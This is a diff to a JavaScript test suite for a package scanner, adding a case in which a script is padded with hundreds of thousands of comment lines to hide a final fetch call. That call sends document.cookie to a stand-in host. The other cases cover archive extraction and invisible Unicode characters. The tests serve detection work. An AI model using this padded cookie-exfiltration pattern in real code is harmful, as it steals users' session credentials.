@@ -43,6 +43,13 @@ describe('the checks hold what a package hides or sends', () => {
       `${HERE}from zipfile import ZipFile as Z\nwith Z(HERE + "/a") as z: z.extract("a.py")\n`,
     ],
     ['an archive of another kind', `${HERE}import shutil\nshutil.unpack_archive(HERE + "/a", HERE, "zip")\n`],
+    [
+      'a theft in a script of 3 MB',
+      {
+        '__init__.py': '',
+        'web/a.js': `${'// A comment.\n'.repeat(230_000)}fetch("https://e.example/?" + document.cookie);\n`,
+      },
+    ],
     ['characters without a shape', node(`self.text = "x${'\u{E0159}'.repeat(12)}"`)],
     ['such characters in a script', script(`const a = "x${'\u200B\u200C'.repeat(8)}";`)],
     [
